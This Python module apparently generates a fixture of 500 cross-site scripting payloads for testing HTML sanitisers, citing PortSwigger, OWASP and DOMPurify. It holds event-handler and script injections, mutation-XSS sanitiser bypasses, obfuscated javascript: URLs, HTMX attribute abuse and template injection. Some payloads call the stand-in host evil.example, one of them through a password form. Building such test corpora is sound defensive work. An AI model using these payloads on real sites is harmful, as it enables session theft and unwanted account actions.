"""500 texts that want to become code in somebody's browser. What gets in carries MARK as an attribute, or
is a link with a scheme of its own, and sets `window.pwned` or opens a dialog.

The shapes follow PortSwigger's and OWASP's cheat sheets on cross-site scripting, DOMPurify's tests
(mutations) and the attributes that HTMX reads."""

import base64
import html
from collections.abc import Iterator
from itertools import islice
from urllib.parse import quote

MARK = "data-pwned"
HOST = "evil.example"
RUN = "window.pwned=1"
DIALOG = "alert(1)"
COUNT = 500

# Ways out of where a value may stand.
BREAKS = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</option></select>",
    "</svg>", "</math>", "</template>", "</noscript>", "</iframe>", "</xmp>", "</button></form>",
    "\"'>", "`>", "<!-- -->", "--!>", "?>", "\\\">", "</a></p></li>",
)  # fmt: skip
# Elements that run by themselves, when touched, or change where the page leads. {c} is the code.
ELEMENTS = (
    "<script {m}>{c}</script>",
    "<img src=x onerror={c} {m}>",
    "<img src=x: onerror='{c}' {m}>",
    "<IMG SRC=x ONERROR={c} {m}>",
    "<img/src='x'/onerror='{c}'/{m}>",
    "<img\x0csrc=x\x0conerror={c}\x0c{m}>",
    "<img\nsrc=x\nonerror={c}\n{m}\n>",
    "<img src=x onerror=&#119;indow.pwned=1 {m}>",
    "<img src=x onerror=\\u0061lert(1) {m}>",
    "<img srcset=x onerror={c} {m}>",
    "<image src=x onerror={c} {m}>",
    "<<img src=x onerror={c} {m}>",
    "<svg onload={c} {m}>",
    "<svg/onload={c} {m}>",
    "<svg {m}><script>{c}</script></svg>",
    "<svg {m}><script href=data:text/javascript,{c} /></svg>",
    "<svg {m}><animate onbegin={c} attributeName=x dur=1s></svg>",
    "<svg {m}><set onbegin={c} attributeName=x></svg>",
    "<svg {m}><a xlink:href='javascript:{c}'><text y=20>x</text></a></svg>",
    "<svg {m}><a><animate attributeName=href values='javascript:{c}' /><text y=20>x</text></a></svg>",
    "<svg {m}><use href='data:image/svg+xml,<svg id=x onload={c}>#x'></use></svg>",
    "<svg {m}><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<math {m}><maction actiontype=statusline xlink:href='javascript:{c}'>x</maction></math>",
    "<math href='javascript:{c}' {m}>x</math>",
    "<body onload={c} {m}>",
    "<html onclick={c} {m}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>' {m}></iframe>",
    "<iframe src='javascript:parent.pwned=1' {m}></iframe>",
    "<iframe onload={c} {m}></iframe>",
    "<object data='javascript:{c}' onerror={c} {m}></object>",
    "<embed src='javascript:{c}' onerror={c} {m}>",
    "<video {m}><source onerror={c}></video>",
    "<video src=x onerror={c} {m}></video>",
    "<audio src=x onerror={c} {m}></audio>",
    "<details open ontoggle={c} {m}>x</details>",
    "<input autofocus onfocus={c} {m}>",
    "<select autofocus onfocus={c} {m}></select>",
    "<textarea autofocus onfocus={c} {m}></textarea>",
    "<button autofocus onfocus={c} {m}>x</button>",
    "<a id=x tabindex=1 onfocusin={c} {m}>x</a>",
    "<xss contenteditable autofocus onfocus={c} {m}>x</xss>",
    "<p onpointerover={c} {m}>x</p>",
    "<marquee onstart={c} {m}>x</marquee>",
    "<style onload={c} {m}></style>",
    "<style {m}>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css onerror={c} {m}>",
    "<link rel=preload as=script href=//evil.example/x.js {m}>",
    "<base href=//evil.example/ {m}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/' {m}>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}' {m}>",
    "<meta http-equiv=Content-Security-Policy content='script-src *' {m}>",
    "<form action='javascript:{c}' {m}><button>x</button></form>",
    "<form action=//evil.example/ {m}><input name=password></form>",
    "<button form=x formaction='javascript:{c}' {m}>x</button>",
    "<a href='javascript:{c}' {m}>x</a>",
    "<a href='data:text/html,<script>{c}</script>' {m}>x</a>",
    "<a ping=//evil.example/ href=/ {m}>x</a>",
    "<img src=//evil.example/pixel {m}>",
    "<div style='background:url(//evil.example/x)' {m}>x</div>",
    "<div {m}><template shadowrootmode=open><img src=x onerror={c}></template></div>",
    "<template {m}><img src=x onerror={c}></template>",
    "<dialog open onclose={c} {m}><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=x onbeforetoggle={c} {m}>x</div>",
    "<noscript><img src=x {m}></noscript>",
    "<plaintext {m}>",
    "<portal src=//evil.example/ {m}></portal>",
    "<frameset onload={c} {m}>",
    "<fencedframe src=//evil.example/ {m}></fencedframe>",
)
# Text that sanitisers let through and the next parser reads otherwise.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={c} {m}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={c} {m}&gt;">',
    "<svg></p><style><a id=\"</style><img src=1 onerror={c} {m}>\">",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror={c} {m}>',
    '<a id="x`<img src=x onerror={c} {m}>">',
    "<svg><style><img src=x onerror={c} {m}></style></svg>",
    '<listing>&lt;img src=x onerror={c} {m}&gt;</listing><img {m}>',
    "<table><td><svg><title><img src=x onerror={c} {m}></title></svg></table>",
    "<svg><![CDATA[><img src=x onerror={c} {m}>]]></svg>",
    "<!--[if gte IE 4]><script {m}>{c}</script><![endif]--><script {m}>{c}</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml' {m}>{c}</x:script>",
    "<?xml-stylesheet href='javascript:{c}'?><img src=x onerror={c} {m}>",
    "<scr<script>ipt {m}>{c}</scr</script>ipt><i {m}>",
    "<scr\u200bipt>{c}</scr\u200bipt><img src=x onerror={c} {m}>",
    "<img src=`x` onerror=`{c}` {m}>",
    "<img alt='<x' src=x onerror={c} {m}='>'>",
)  # fmt: skip
HANDLERS = (
    "onfocus={c} autofocus", "onmouseover={c}", "onpointerenter={c}", "onclick={c}", "onanimationstart={c}",
    "style=animation-name:x onanimationend={c}", "onerror={c}", "onload={c}", "oninput={c}",
    "onbeforeinput={c}", "onkeydown={c} accesskey=x", "onwheel={c}", "onscrollend={c}", "ontoggle={c}",
    "onsecuritypolicyviolation={c}", "oncontentvisibilityautostatechange={c} style=content-visibility:auto",
    "formaction=javascript:{c}", "srcdoc=<script>parent.pwned=1</script>", "href=javascript:{c}",
    "hx-on:click={c}", "hx-on::load={c}", "hx-get=/account hx-trigger=load",
)  # fmt: skip
HTMX = (
    "<div hx-get=/account hx-trigger=load {m}>x</div>",
    "<div data-hx-get=/account data-hx-trigger=load {m}>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=load {m}>x</div>",
    "<div hx-post=/logout hx-trigger='load delay:1ms' {m}>x</div>",
    "<div hx-delete=/account hx-trigger=intersect {m}>x</div>",
    "<div hx-on:click={c} {m}>x</div>",
    "<div hx-on::load={c} {m}>x</div>",
    "<div hx-on--after-request={c} hx-get=/account hx-trigger=load {m}>x</div>",
    "<div data-hx-on:click={c} {m}>x</div>",
    "<div hx-trigger='load[{c}]' hx-get=/account {m}>x</div>",
    "<div hx-vals='js:{{a: {c}}}' hx-get=/account hx-trigger=load {m}>x</div>",
    "<div hx-headers='javascript:{{a: {c}}}' hx-get=/account hx-trigger=load {m}>x</div>",
    "<div hx-swap-oob=true id=content {m}>x</div>",
    "<div hx-swap-oob=innerHTML:body {m}><img src=x onerror={c}></div>",
    "<a hx-boost=true href=//evil.example/ {m}>x</a>",
    "<form hx-boost=true action=//evil.example/ {m}><button>x</button></form>",
    "<div hx-ext=trusted-types hx-disable=false {m}>x</div>",
    "<meta name=htmx-config content='{{\"selfRequestsOnly\":false}}' {m}>",
    "<hx-partial hx-target=body {m}><img src=x onerror={c}></hx-partial>",
    '<div hx-config=\'{{"mode":"no-cors"}}\' hx-get=//evil.example/ hx-trigger=load {m}>x</div>',
)
ADDRESSES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\x01javascript:{c}", "\x0bjavascript:{c}",
    "java\tscript:{c}", "java\nscript:{c}", "java\r\nscript:{c}", "javascript\t:{c}", "javascript:\t{c}",
    "javascript://%0a{c}", "javascript://localhost/%0d%0a{c}", "javascript:/*http://localhost/*/{c}",
    "&#106;avascript:{c}", "&#x6A;avascript:{c}", "javascript&colon;{c}", "java&Tab;script:{c}",
    "java&NewLine;script:{c}", "%6aavascript:{c}", "javascript%3A{c}", "\u2028javascript:{c}",
    "\u00a0javascript:{c}", "\ufeffjavascript:{c}", "ｊavascript:{c}", "javaſcript:{c}",
    "javascript:{c}//https://localhost/", "javascript:'<img src=x {m}>'", "livescript:{c}", "vbscript:{c}",
    "data:text/html,<script {m}>{c}</script>", "data:text/html;charset=utf-7,+ADw-script+AD4-{c}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
    "data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>{c}</script>", "data:,{c}",
    "data:application/xhtml+xml,<x/>", "DATA:text/html,x", "blob:http://localhost/x",
    "filesystem:http://localhost/temporary/x", "file:///etc/passwd", "view-source:javascript:{c}",
    "feed:javascript:{c}", "jar:javascript:{c}!/", "about:blank", "intent://x#Intent;scheme=http;end",
    "ms-word:ofe|u|http://evil.example/x", "chrome://settings", "ws://evil.example/", "mhtml:http://x!y",
)  # fmt: skip
TEMPLATES = (
    "{{{{ '{e}'|safe }}}}", "{{% autoescape false %}}{{{{ '{e}' }}}}{{% endautoescape %}}", "{{% raw %}}{e}",
    "{{{{ '{e}' | striptags }}}}{e}", "{{# #}}{e}", "${{{{'{e}'}}}}{e}", "#{{'{e}'}}", "<%= '{e}' %>",
    "<%- '{e}' %>", "[[{e}]]", "{{{{{{{e}}}}}}}", "{{{{constructor.constructor('{c}')()}}}}{e}",
    "@{{'{e}'}}", "*{{T({e})}}", "~{{{e}}}", "<x v-html=\"'{e}'\" {m}>", "<x x-data x-init={c} {m}>",
    "<x ng-app ng-init={c} {m}>", "{{{{config}}}}{e}",
    "{{{{ caller() }}}}{{% block main %}}{e}{{% endblock %}}",
    "%(name)s{e}", "{{0.__class__}}{e}",
)  # fmt: skip
ENCODED = ELEMENTS[1], ELEMENTS[0], ELEMENTS[12], ELEMENTS[54]


def _fill(shape: str, number: int, extra: str = "") -> str:
    code = RUN if number % 2 else DIALOG
    return shape.format(m=f"{MARK}={number}", c=code, e=extra)


def _attributes() -> Iterator[str]:
    """Out of a quoted or bare value, into a new attribute."""
    for handler in HANDLERS:
        yield f'" {handler} {{m}} x="'
        yield f"' {handler} {{m}} x='"
        yield f"x {handler} {{m}} "


def _spellings(text: str) -> Iterator[str]:
    """What is plain text until something decodes it once too often."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(sign)};" if sign in "<>\"'" else sign for sign in text)
    yield "".join(f"&#x{ord(sign):07x}" if sign in "<>" else sign for sign in text)
    yield quote(text)
    yield quote(quote(text))
    yield text.replace("<", "\\u003c").replace(">", "\\u003e")
    yield text.replace("<", "\\x3c").replace(">", "\\x3e")
    yield text.replace("<", "＜").replace(">", "＞")  # NFKC makes brackets of these
    yield text.replace("<", "﹤").replace(">", "﹥")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")  # UTF-7
    yield base64.b64encode(text.encode()).decode()
    yield f"\u202e{text}\u202c"
    yield f"\ufeff\u200b{text}"
    yield f"ﷺ{text}\u2028\u2029\u0085"


def _made() -> Iterator[str]:
    """Every shape at least once; what is left of the 500 are elements behind other ways out."""
    singles = (*MUTATIONS, *HTMX, *ADDRESSES, *_attributes())
    number = 0
    for number, shape in enumerate(singles):
        yield _fill(shape, number)
    for shape in TEMPLATES:
        yield _fill(shape, number := number + 1, f"<i {MARK}={number}>")
    for shape in ENCODED:
        yield from _spellings(_fill(shape, number := number + 1))
    for turn in range(len(BREAKS)):
        for place, element in enumerate(ELEMENTS):
            way = BREAKS[(place + turn) % len(BREAKS)]
            yield way + _fill(element, number := number + 1)


PAYLOADS = tuple(islice(dict.fromkeys(_made()), COUNT))
LEADING = tuple(_fill(shape, number) for number, shape in enumerate(ADDRESSES))
